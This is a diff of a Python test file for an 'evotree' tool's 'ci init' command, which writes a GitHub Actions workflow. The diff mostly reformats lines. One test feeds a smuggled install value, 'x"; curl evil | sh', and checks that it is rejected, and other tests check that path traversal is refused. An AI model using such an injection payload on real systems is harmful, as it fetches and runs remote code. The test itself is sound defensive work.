@@ -32,7 +32,9 @@ def test_ci_init_writes_a_workflow_whose_steps_run(ws: Any, run: Cli) -> None:
     result = run.json("ci", "init", "--install", URL_INSTALL)
     validate(result, "report-ci")
     path = Path(result["path"])
-    assert path == ws.root / ".github" / "workflows" / "evotree.yml" and result["action"] == "created"
+    assert (
+        path == ws.root / ".github" / "workflows" / "evotree.yml" and result["action"] == "created"
+    )
     doc = _workflow(path)
     assert set(doc["on"]) == {"pull_request"}  # never pull_request_target: forks get no write token
     assert doc["permissions"] == {"contents": "read", "pull-requests": "write", "issues": "write"}
@@ -48,20 +50,32 @@ def test_ci_init_writes_a_workflow_whose_steps_run(ws: Any, run: Cli) -> None:
         if words[:1] == ["evotree"] and words[1] != "audit":  # audit: the leak audit's command
             assert words[1] in evotree_cli.list_commands(click.Context(evotree_cli)), line
     post = steps["Report (Markdown, posted on the pull request)"]
-    assert post["env"] == {"GITHUB_TOKEN": "${{ secrets.GITHUB_TOKEN }}"} and post["if"] == "always()"
+    assert (
+        post["env"] == {"GITHUB_TOKEN": "${{ secrets.GITHUB_TOKEN }}"} and post["if"] == "always()"
+    )
     assert steps["Audit"]["continue-on-error"] is True
     assert steps["Fail when the audit failed"]["if"] == "steps.audit.outcome == 'failure'"
     # the report step, run by bash as Actions would, against a stub of the GitHub API
     create_version(ws, hypothesis="try something")
     token = "ci-token"
     with _Stub(token, {"evotree/v1": 3}) as stub:
-        env = {**os.environ, "GITHUB_TOKEN": token, "GITHUB_REPOSITORY": "acme/recipes", "GITHUB_API_URL": stub.url,
-               "GITHUB_HEAD_REF": "evotree/v1", "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
-        script = steps["Version of this pull request"]["run"].replace(">> \"$GITHUB_ENV\"", "")
-        version = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True).stdout.strip()
+        env = {
+            **os.environ,
+            "GITHUB_TOKEN": token,
+            "GITHUB_REPOSITORY": "acme/recipes",
+            "GITHUB_API_URL": stub.url,
+            "GITHUB_HEAD_REF": "evotree/v1",
+            "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
+        }
+        script = steps["Version of this pull request"]["run"].replace('>> "$GITHUB_ENV"', "")
+        version = subprocess.run(
+            ["bash", "-c", script], env=env, capture_output=True, text=True
+        ).stdout.strip()
         assert version == "EVOTREE_VERSION=v1"
         env["EVOTREE_VERSION"] = "v1"
-        proc = subprocess.run(["bash", "-c", post["run"]], cwd=ws.root, env=env, capture_output=True, text=True)
+        proc = subprocess.run(
+            ["bash", "-c", post["run"]], cwd=ws.root, env=env, capture_output=True, text=True
+        )
         assert proc.returncode == 0, proc.stderr
         assert "created comment" in proc.stdout and len(stub.comments[3]) == 1
         assert (ws.root / "evotree-report" / "report.md").is_file()
@@ -80,7 +94,9 @@ def test_ci_init_refuses_to_overwrite_and_bad_input(ws: Any, run: Cli, tmp_path:
     assert not (ws.root / ".github").exists()
     first = run.json("ci", "init", "--install", URL_INSTALL)
     path = Path(first["path"])
-    assert f'EVOTREE_INSTALL: "{URL_INSTALL}"' in path.read_text() and first["install"] == URL_INSTALL
+    assert (
+        f'EVOTREE_INSTALL: "{URL_INSTALL}"' in path.read_text() and first["install"] == URL_INSTALL
+    )
     path.write_text("# edited by hand\n")
     err = run.json("ci", "init", "--install", URL_INSTALL, code=34)
     assert "already exists" in err["error"]["message"] and "--force" in err["error"]["fix"]
@@ -90,7 +106,10 @@ def test_ci_init_refuses_to_overwrite_and_bad_input(ws: Any, run: Cli, tmp_path:
     err = run.json("ci", "init", "--force", "--install", 'x"; curl evil | sh', code=34)
     assert "plain pip requirement" in err["error"]["message"]
     err = run.json("ci", "init", "--path", "../outside.yml", "--install", URL_INSTALL, code=34)
-    assert "outside the repository" in err["error"]["message"] and not (ws.root.parent / "outside.yml").exists()
+    assert (
+        "outside the repository" in err["error"]["message"]
+        and not (ws.root.parent / "outside.yml").exists()
+    )
     plain = tmp_path / "plain"
     plain.mkdir()
     Cli(plain)("ci", "init", code=3)
@@ -114,7 +133,10 @@ def test_ci_init_installs_from_the_checkout_with_the_domains_extras(tmp_path: Pa
     err = run.json("ci", "init", "--from", "../..", code=34)
     assert "outside the repository" in err["error"]["message"]
     (repo / "elsewhere").symlink_to(ROOT)  # a link that leads out of the repository is outside too
-    assert "outside the repository" in run.json("ci", "init", "--from", "elsewhere", code=34)["error"]["message"]
+    assert (
+        "outside the repository"
+        in run.json("ci", "init", "--from", "elsewhere", code=34)["error"]["message"]
+    )
     result = run.json("ci", "init", "--from", "vendor/evotree")
     assert result["install"] == "./vendor/evotree[report,gym]"
     doc = _workflow(Path(result["path"]))
@@ -123,18 +145,46 @@ def test_ci_init_installs_from_the_checkout_with_the_domains_extras(tmp_path: Pa
     step = next(s for s in job["steps"] if s.get("name") == "Install evotree")
     venv = tmp_path / "ci-venv"
     subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
-    site = subprocess.run([str(venv / "bin" / "python"), "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
-                          capture_output=True, text=True, check=True).stdout.strip()
+    site = subprocess.run(
+        [
+            str(venv / "bin" / "python"),
+            "-c",
+            "import sysconfig; print(sysconfig.get_path('purelib'))",
+        ],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout.strip()
     # dependencies come from this test's environment (no download); evotree from the checkout
     (Path(site) / "zz_test_dependencies.pth").write_text(sysconfig.get_path("purelib") + "\n")
     env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "VIRTUAL_ENV")}
-    env.update(PATH=f"{venv / 'bin'}:/usr/bin:/bin", EVOTREE_INSTALL=job["env"]["EVOTREE_INSTALL"],
-               PIP_NO_BUILD_ISOLATION="0", PIP_DISABLE_PIP_VERSION_CHECK="1", PIP_NO_INPUT="1")
-    proc = subprocess.run(["bash", "-c", step["run"]], cwd=repo, env=env, capture_output=True, text=True, timeout=300)
+    env.update(
+        PATH=f"{venv / 'bin'}:/usr/bin:/bin",
+        EVOTREE_INSTALL=job["env"]["EVOTREE_INSTALL"],
+        PIP_NO_BUILD_ISOLATION="0",
+        PIP_DISABLE_PIP_VERSION_CHECK="1",
+        PIP_NO_INPUT="1",
+    )
+    proc = subprocess.run(
+        ["bash", "-c", step["run"]], cwd=repo, env=env, capture_output=True, text=True, timeout=300
+    )
     assert proc.returncode == 0, proc.stdout + proc.stderr
-    where = subprocess.run([str(venv / "bin" / "python"), "-c", "import evotree.domains.gym, evotree; print(evotree.__file__)"],
-                           cwd=tmp_path, env=env, capture_output=True, text=True)
+    where = subprocess.run(
+        [
+            str(venv / "bin" / "python"),
+            "-c",
+            "import evotree.domains.gym, evotree; print(evotree.__file__)",
+        ],
+        cwd=tmp_path,
+        env=env,
+        capture_output=True,
+        text=True,
+    )
     assert where.returncode == 0 and str(venv) in where.stdout, where.stdout + where.stderr
-    shown = subprocess.run([str(venv / "bin" / "python"), "-m", "pip", "show", "evotree-rl"], env=env,
-                           capture_output=True, text=True)
+    shown = subprocess.run(
+        [str(venv / "bin" / "python"), "-m", "pip", "show", "evotree-rl"],
+        env=env,
+        capture_output=True,
+        text=True,
+    )
     assert "Name: evotree-rl" in shown.stdout
